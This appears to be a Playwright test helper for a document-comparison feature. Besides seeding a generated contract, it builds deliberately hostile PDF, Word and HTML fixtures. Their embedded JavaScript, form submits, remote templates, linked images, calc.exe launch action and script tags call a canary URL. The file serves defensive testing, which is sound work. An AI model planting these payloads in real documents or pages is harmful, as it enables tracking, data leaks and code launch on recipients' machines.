import { randomUUID } from 'node:crypto'
import type { APIRequestContext, Locator } from '@playwright/test'
import { zip } from '../../../supabase/functions/_shared/documents/fixtures/zip.ts'
import { addTemplates, storeFile } from './library.ts'
import type { Member } from './member.ts'

interface DocumentFile {
  readonly title: string
  readonly name: string
  readonly content: string | Uint8Array
}

/** Finds both documents in the dialog "Compare documents" by their titles, and chooses them. */
export async function chooseDocuments(dialog: Locator, first: string, second: string): Promise<void> {
  for (const [label, title] of [
    ['First document', first],
    ['Second document', second],
  ] as const) {
    await dialog.getByLabel(label).fill(title)
    await dialog.getByRole('option', { name: title, exact: true }).click()
  }
}

const TYPES: Readonly<Record<string, string>> = {
  pdf: 'application/pdf',
  doc: 'application/msword',
  docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  rtf: 'application/rtf',
  txt: 'text/plain',
}

/** Adds a document to the member's account, and returns its id. */
export async function addDocument(
  request: APIRequestContext,
  member: Member,
  { title, name, content }: DocumentFile,
): Promise<string> {
  const data = Buffer.from(content)
  const type = TYPES[name.slice(name.lastIndexOf('.') + 1)] ?? 'text/plain'
  const path = `${member.userId}/${randomUUID()}-${name}`
  await storeFile(request, path, { type, data })
  const [id] = await addTemplates(request, [
    {
      user_id: member.userId,
      account_id: member.accountId,
      is_client_specific: true,
      title,
      file_name: name,
      file_path: path,
      file_size: data.byteLength,
      file_type: type,
    },
  ])
  return id ?? ''
}

/** A contract of so many pages; the edited one has a change in every third clause, and some new and missing clauses. */
export function contract(pages: number, isEdited: boolean): string {
  const clauses = Array.from({ length: pages * 8 }, (_, index) => {
    if (isEdited && index % 17 === 5) return ''
    const words = Array.from({ length: 45 }, (_, word) => WORDS[(index * 7 + word * 5) % WORDS.length]).join(' ')
    const days = isEdited && index % 3 === 0 ? 'sixty days' : 'thirty days'
    const more =
      isEdited && index % 23 === 7 ? `\n\nNew clause ${index}: the supplier keeps a register of ${index} items.` : ''
    return `${Math.floor(index / 8) + 1}.${(index % 8) + 1} Clause ${index} says that ${words} within ${days} of notice.${more}`
  })
  return clauses.join('\n\n')
}

const WORDS =
  'the supplier shall process personal data only on documented instructions from controller and keep records of every step taken under this agreement for audit by either party'.split(
    ' ',
  )

/** A PDF of these objects (ISO 32000-1), the first of which is the catalog. */
export function pdfFile(objects: readonly string[]): Uint8Array {
  let text = '%PDF-1.7\n'
  const places = objects.map((object, index) => {
    const place = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return place
  })
  const table = text.length
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`
  for (const place of places) text += `${String(place).padStart(10, '0')} 00000 n \n`
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}

const stream = (content: string, words = ''): string =>
  `<< /Length ${content.length} ${words}>>\nstream\n${content}\nendstream`

/** Pages with one line each, and every action that a PDF can start when it is opened, printed, closed or clicked. */
export function hostilePdf(canary: string, pages = 3): Uint8Array {
  const script = (words: string) => `<< /S /JavaScript /JS (${words.replaceAll(/[()\\]/g, String.raw`\$&`)}) >>`
  const call = `app.alert(1); app.launchURL("${canary}/js", true); this.submitForm("${canary}/form")`
  const first = 7
  const kids = Array.from({ length: pages }, (_, index) => `${first + index * 2} 0 R`).join(' ')
  return pdfFile([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script(call)} /AA << /WC ${script(call)} /WP ${script(call)} >> /Names << /JavaScript << /Names [(a) ${script(call)}] >> >> /AcroForm << /Fields [6 0 R] /XFA [] >> /URI << /Base (${canary}/) >> >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    `<< /Type /Annot /Subtype /Link /Rect [60 640 400 760] /Border [0 0 0] /A << /S /URI /URI (${canary}/link) >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [60 500 400 630] /Border [0 0 0] /A << /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (filled in) /Rect [60 400 400 440] /AA << /E ${script(call)} /Fo ${script(call)} >> /A << /S /SubmitForm /F (${canary}/submit) >> >>`,
    ...Array.from({ length: pages }, (_, index) => [
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${first + index * 2 + 1} 0 R /Annots [4 0 R 5 0 R 6 0 R] /AA << /O ${script(call)} /C ${script(call)} >> /Resources << /Font << /F1 3 0 R >> >> >>`,
      stream(`BT /F1 24 Tf 1 0 0 1 72 700 Tm (This is page number ${index + 1} of the file) Tj ET`),
    ]).flat(),
  ])
}

const PACKAGE = 'http://schemas.openxmlformats.org/package/2006'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml'
/** One green pixel. */
const POINT = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkaPhfDwAEhwGAnSiFsQAAAABJRU5ErkJggg==',
  'base64',
)

const relations = (...list: readonly (readonly [string, string, string])[]): string =>
  `<?xml version="1.0"?><Relationships xmlns="${PACKAGE}/relationships">${list
    .map(
      ([id, type, target]) =>
        `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}"${/^(http|javascript)/.test(target) ? ' TargetMode="External"' : ''}/>`,
    )
    .join('')}</Relationships>`

const picture = (how: 'embed' | 'link', id: string, words: string): string =>
  `<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="p" descr="${words}"/><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:${how}="${id}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`

/** A Word document with an external template, picture and frame, and links of every kind. */
export function hostileDocx(canary: string): Uint8Array {
  const text = (words: string) => `<w:r><w:t xml:space="preserve">${words}</w:t></w:r>`
  const body = [
    `<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr>${text('Term and termination')}</w:p>`,
    `<w:p>${text('Markup is text: &lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(1)&lt;/script&gt;')}</w:p>`,
    `<w:p><w:hyperlink r:id="rLink">${text('our terms')}</w:hyperlink>${text(' ')}<w:hyperlink r:id="rScript">${text('a script')}</w:hyperlink></w:p>`,
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "${canary}/field.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${text('a field')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
    picture('embed', 'rOwn', 'A seal'),
    picture('link', 'rRemote', 'From elsewhere'),
    picture('embed', 'rRemote', 'From elsewhere too'),
    `<w:tbl><w:tr><w:tc><w:p>${text('Fee')}</w:p></w:tc><w:tc><w:p>${text('EUR 1,200')}</w:p></w:tc></w:tr></w:tbl>`,
  ].join('')
  return zip([
    {
      name: '[Content_Types].xml',
      content: `<?xml version="1.0"?><Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="png" ContentType="image/png"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${WORD}.document.main+xml"/><Override PartName="/word/settings.xml" ContentType="${WORD}.settings+xml"/></Types>`,
    },
    { name: '_rels/.rels', content: relations(['r1', 'officeDocument', 'word/document.xml']) },
    {
      name: 'word/_rels/document.xml.rels',
      content: relations(
        ['rOwn', 'image', 'media/seal.png'],
        ['rRemote', 'image', `${canary}/remote.png`],
        ['rLink', 'hyperlink', `${canary}/link`],
        ['rScript', 'hyperlink', 'javascript:alert(1)'],
        ['rSettings', 'settings', 'settings.xml'],
        ['rFrame', 'frame', `${canary}/frame.docx`],
      ),
    },
    { name: 'word/_rels/settings.xml.rels', content: relations(['r1', 'attachedTemplate', `${canary}/template.dotm`]) },
    {
      name: 'word/settings.xml',
      content: `<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}"><w:attachedTemplate r:id="r1"/></w:settings>`,
    },
    { name: 'word/media/seal.png', content: POINT },
    {
      name: 'word/document.xml',
      content: `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>${body}</w:body></w:document>`,
    },
  ])
}

/** An HTML page, for a file with the name of a text file. */
export const hostilePage = (canary: string): string =>
  `<!doctype html><meta http-equiv="refresh" content="0;url=${canary}/refresh"><base href="${canary}/">
<script src="${canary}/script.js"></script><script>alert(1);location='${canary}/leave'</script>
<img src="${canary}/image.png" onerror="alert(1)"><iframe src="${canary}/frame"></iframe>
<link rel="stylesheet" href="${canary}/style.css"><p>Only text after all.</p>
`
